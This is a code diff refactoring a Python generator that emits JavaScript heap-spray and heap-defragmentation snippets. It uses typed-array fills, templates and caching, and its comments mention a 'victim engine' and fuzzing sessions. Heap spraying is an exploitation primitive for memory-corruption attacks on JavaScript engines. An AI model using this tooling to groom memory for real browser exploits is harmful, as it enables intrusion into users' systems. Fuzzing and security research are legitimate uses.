@@ -1,9 +1,117 @@
-from typing import List, Dict, Optional
+from collections import deque
+from typing import Deque, List, Dict, Optional
 from dataclasses import dataclass
+from functools import lru_cache
+import json
 import random
 import string
 
-@dataclass
+# Code templates are formatted in a single pass rather than assembled
+# line by line, so each generated snippet costs one string allocation.
+# Fills use Array.prototype.fill / String.prototype.padEnd so the victim
+# engine does one native call per object instead of an interpreted loop.
+_ARRAY_SPRAY_TMPL = """\
+// Array spray configuration
+const targetSize = {target_size};
+const numObjects = {num_objects};
+const sprayArrays = [];
+
+// Spray arrays
+for (let i = 0; i < numObjects; i++) {{
+    const arr = new {array_type}({length}).fill({fill_pattern});
+    sprayArrays.push(arr);
+}}
+
+// Prevent garbage collection
+globalThis.sprayArrays = sprayArrays;"""
+
+_OBJECT_SPRAY_TMPL = """\
+// Object spray configuration
+const targetSize = {target_size};
+const numObjects = {num_objects};
+const sprayObjects = [];
+
+// Spray objects
+for (let i = 0; i < numObjects; i++) {{
+    const obj = {{}};
+    for (let j = 0; j < targetSize; j++) {{
+        obj[`prop${{j}}`] = {fill_pattern};
+    }}
+    sprayObjects.push(obj);
+}}
+
+// Prevent garbage collection
+globalThis.sprayObjects = sprayObjects;"""
+
+_STRING_SPRAY_TMPL = """\
+// String spray configuration
+const targetSize = {target_size};
+const numObjects = {num_objects};
+const sprayStrings = [];
+
+// Spray strings
+const fillPattern = ''.padEnd(targetSize, {fill_pattern});
+for (let i = 0; i < numObjects; i++) {{
+    sprayStrings.push(fillPattern);
+}}
+
+// Prevent garbage collection
+globalThis.sprayStrings = sprayStrings;"""
+
+_DEFRAG_TMPL = """\
+// Heap defragmentation
+const targetSize = {target_size};
+const numHoles = {num_holes};
+const defragObjects = [];
+
+// Create holes
+for (let i = 0; i < numHoles; i++) {{
+    const arr = new Array(targetSize);
+    defragObjects.push(arr);
+}}
+
+// Force garbage collection
+globalThis.defragObjects = defragObjects;
+if (global.gc) {{
+    global.gc();
+}}"""
+
+_SPRAY_SEQUENCE_TMPL = """\
+// Heap spray sequence
+(function() {{
+    // Prevent garbage collection during spray
+    const keepAlive = [];
+
+    // Generate spray
+{spray}
+
+    // Force garbage collection
+    if (global.gc) {{
+        global.gc();
+    }}
+}})();"""
+
+
+# Typed arrays by element limit, narrowest first
+_TYPED_ARRAYS = (
+    (0xFF, "Uint8Array"),
+    (0xFFFF, "Uint16Array"),
+    (0xFFFFFFFF, "Uint32Array"),
+)
+
+def _array_type_for(fill_pattern: str) -> str:
+    """Pick the JS array constructor to spray a fill pattern with."""
+    try:
+        value = int(fill_pattern, 0)  # Accepts 0x41, 65, 0o101, ...
+    except ValueError:
+        return "Array"
+        
+    for limit, array_type in _TYPED_ARRAYS:
+        if 0 <= value <= limit:
+            return array_type
+    return "Array"
+
+@dataclass(slots=True, frozen=True)
 class SprayConfig:
     """Configuration for heap spraying operations."""
     target_size: int
@@ -15,99 +123,71 @@ class SprayConfig:
 class HeapSprayGenerator:
     """Generates JavaScript code for heap manipulation."""
     
-    def __init__(self):
-        self.spray_history: List[SprayConfig] = []
+    def __init__(self, cache_size: int = 1024, history_size: int = 1024):
+        # Bounded so long fuzzing sessions don't grow without limit
+        self.spray_history: Deque[SprayConfig] = deque(maxlen=history_size)
+        # Fuzzing loops request the same configs repeatedly, so rendered
+        # code is cached per config (SprayConfig is frozen and hashable).
+        self._generate_spray_cached = lru_cache(maxsize=cache_size)(
+            self._dispatch_spray)
     
     def generate_array_spray(self, config: SprayConfig) -> str:
-        """Generate JavaScript code to spray arrays of specific size."""
-        if config.fill_pattern is None:
-            fill_pattern = "0x41"  # Default fill pattern
-        
-        code = []
-        code.append("// Array spray configuration")
-        code.append(f"const targetSize = {config.target_size};")
-        code.append(f"const numObjects = {config.num_objects};")
-        code.append("const sprayArrays = [];")
-        code.append("\n// Spray arrays")
-        code.append("for (let i = 0; i < numObjects; i++) {")
-        code.append("    const arr = new Array(targetSize);")
-        code.append("    for (let j = 0; j < targetSize; j++) {")
-        code.append(f"        arr[j] = {fill_pattern};")
-        code.append("    }")
-        code.append("    sprayArrays.push(arr);")
-        code.append("}")
-        code.append("\n// Prevent garbage collection")
-        code.append("globalThis.sprayArrays = sprayArrays;")
+        """Generate JavaScript code to spray arrays of specific size.
         
-        return "\n".join(code)
+        Numeric fill patterns are sprayed with the narrowest typed array that
+        holds them: engines lower TypedArray.prototype.fill to a memset over
+        the backing store, so the spray is bound by memory bandwidth rather
+        than by per-element stores. For typed arrays `targetSize` is the byte
+        length of the backing store, so the sprayed size class does not
+        depend on the pattern width. Other patterns use a plain Array of
+        `targetSize` elements.
+        """
+        fill_pattern = config.fill_pattern or "0x41"  # Default fill pattern
+        array_type = _array_type_for(fill_pattern)
+        if array_type == "Array":
+            length = "targetSize"
+        else:
+            length = f"Math.floor(targetSize / {array_type}.BYTES_PER_ELEMENT)"
+            
+        return _ARRAY_SPRAY_TMPL.format(
+            target_size=config.target_size,
+            num_objects=config.num_objects,
+            array_type=array_type,
+            length=length,
+            fill_pattern=fill_pattern
+        )
     
     def generate_object_spray(self, config: SprayConfig) -> str:
         """Generate JavaScript code to spray objects with specific properties."""
-        if config.fill_pattern is None:
-            fill_pattern = "0x41"
-        
-        code = []
-        code.append("// Object spray configuration")
-        code.append(f"const targetSize = {config.target_size};")
-        code.append(f"const numObjects = {config.num_objects};")
-        code.append("const sprayObjects = [];")
-        code.append("\n// Spray objects")
-        code.append("for (let i = 0; i < numObjects; i++) {")
-        code.append("    const obj = {};")
-        code.append("    for (let j = 0; j < targetSize; j++) {")
-        code.append(f"        obj[`prop${j}`] = {fill_pattern};")
-        code.append("    }")
-        code.append("    sprayObjects.push(obj);")
-        code.append("}")
-        code.append("\n// Prevent garbage collection")
-        code.append("globalThis.sprayObjects = sprayObjects;")
-        
-        return "\n".join(code)
+        return _OBJECT_SPRAY_TMPL.format(
+            target_size=config.target_size,
+            num_objects=config.num_objects,
+            fill_pattern=config.fill_pattern or "0x41"
+        )
     
     def generate_string_spray(self, config: SprayConfig) -> str:
-        """Generate JavaScript code to spray strings of specific size."""
-        if config.fill_pattern is None:
-            fill_pattern = "A" * config.target_size
+        """Generate JavaScript code to spray strings of specific size.
         
-        code = []
-        code.append("// String spray configuration")
-        code.append(f"const targetSize = {config.target_size};")
-        code.append(f"const numObjects = {config.num_objects};")
-        code.append("const sprayStrings = [];")
-        code.append("\n// Spray strings")
-        code.append(f"const fillPattern = '{fill_pattern}';")
-        code.append("for (let i = 0; i < numObjects; i++) {")
-        code.append("    sprayStrings.push(fillPattern);")
-        code.append("}")
-        code.append("\n// Prevent garbage collection")
-        code.append("globalThis.sprayStrings = sprayStrings;")
-        
-        return "\n".join(code)
+        The fill pattern is repeated and truncated to exactly `targetSize`
+        characters, whatever its length.
+        """
+        return _STRING_SPRAY_TMPL.format(
+            target_size=config.target_size,
+            num_objects=config.num_objects,
+            fill_pattern=json.dumps(config.fill_pattern or "A")  # JS string literal
+        )
     
     def generate_defrag_code(self, target_size: int, num_holes: int) -> str:
         """Generate JavaScript code to defragment the heap."""
-        code = []
-        code.append("// Heap defragmentation")
-        code.append(f"const targetSize = {target_size};")
-        code.append(f"const numHoles = {num_holes};")
-        code.append("const defragObjects = [];")
-        code.append("\n// Create holes")
-        code.append("for (let i = 0; i < numHoles; i++) {")
-        code.append("    const arr = new Array(targetSize);")
-        code.append("    defragObjects.push(arr);")
-        code.append("}")
-        code.append("\n// Force garbage collection")
-        code.append("globalThis.defragObjects = defragObjects;")
-        code.append("if (global.gc) {")
-        code.append("    global.gc();")
-        code.append("}")
-        
-        return "\n".join(code)
+        return _DEFRAG_TMPL.format(target_size=target_size, num_holes=num_holes)
     
     def generate_spray(self, config: SprayConfig) -> str:
         """Generate appropriate spray code based on configuration."""
         self.spray_history.append(config)
-        
+        return self._generate_spray_cached(config)
+    
+    def _dispatch_spray(self, config: SprayConfig) -> str:
+        """Render spray code for the configured object type."""
         if config.object_type == "array":
             return self.generate_array_spray(config)
         elif config.object_type == "object":
@@ -130,17 +210,4 @@ class HeapSprayGenerator:
             fill_pattern=fill_pattern
         )
         
-        code = []
-        code.append("// Heap spray sequence")
-        code.append("(function() {")
-        code.append("    // Prevent garbage collection during spray")
-        code.append("    const keepAlive = [];")
-        code.append("\n    // Generate spray")
-        code.append(self.generate_spray(config))
-        code.append("\n    // Force garbage collection")
-        code.append("    if (global.gc) {")
-        code.append("        global.gc();")
-        code.append("    }")
-        code.append("})();")
-        
-        return "\n".join(code) 
\ No newline at end of file
+        return _SPRAY_SEQUENCE_TMPL.format(spray=self.generate_spray(config))
\ No newline at end of file